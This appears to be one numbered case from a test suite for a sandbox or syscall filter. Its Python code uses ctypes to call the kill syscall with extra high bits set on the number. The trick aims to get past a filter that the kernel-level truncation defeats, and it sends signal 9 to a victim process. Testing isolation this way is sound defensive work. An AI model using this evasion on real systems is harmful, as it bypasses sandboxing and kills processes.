# C43: hides a call's number behind bits that the kernel drops
# Without layers: succeeds
import sys

os = sys.modules["os"]

KILL = {"x86_64": 62, "aarch64": 129}


def attack(facts):
    ctypes = sys.modules["ctypes"]
    libc, number = ctypes.CDLL(None), ctypes.c_long(1 << 32 | KILL[os.uname().machine])
    return libc.syscall(number, facts["victim"], 9) == 0
